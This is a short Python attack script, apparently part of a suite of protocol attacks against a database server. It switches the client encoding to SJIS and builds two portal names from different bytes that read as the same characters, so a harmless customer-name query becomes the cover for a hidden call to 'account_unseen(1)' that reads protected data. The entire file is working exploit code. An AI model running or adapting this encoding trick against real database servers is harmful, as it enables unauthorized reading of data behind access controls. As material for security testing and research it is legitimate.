"""Gives a portal the name of a harmless one in other bytes that are the same letters."""

from attacks.frames import SYNC, ask, bind, close, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = b"\xfa\x40", b"\xee\xef"
        ask(client, query(b"SET client_encoding = 'SJIS'"))
        harmless = parse(b"SELECT name FROM customer", b"a") + bind(b"a", one)
        hidden = parse(b"SELECT account_unseen(1)", b"b") + close(b"P", other) + bind(b"b", other)
        return ask(client, harmless, hidden, execute(one), SYNC)
